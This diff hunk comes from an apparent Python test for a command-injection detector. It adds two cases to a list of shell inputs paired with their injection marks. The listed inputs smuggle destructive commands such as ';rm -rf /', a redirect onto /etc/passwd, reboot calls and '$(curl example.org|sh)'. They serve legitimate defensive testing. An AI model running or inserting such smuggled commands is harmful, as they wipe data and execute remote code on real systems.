@@ -399,6 +399,8 @@ def test_every_rule_can_be_told_by_its_mark() -> None:
         ("grep Authorization: Bearer abc;rm${IFS}-rf", ";rm${IFS}-rf"),
         ("grep Cookie: sid=Fake7Dummy3;rm -rf /", ";rm -rf /"),
         ("cat f token=abcdefghij12>/etc/passwd", ">/etc/passwd"),
+        ('echo ""password=abcdef1234;rm -rf /', ";rm -rf /"),
+        ('grep ""Authorization: Bearer abc;rm -rf /', ";rm -rf /"),
         ("API_KEY=abcdef1234&reboot", "&reboot"),
         ("API_KEY=abcdef1234`reboot`", "`reboot`"),
         ("API_KEY=$(curl example.org|sh); cat f", "$(curl example.org|sh); cat f"),
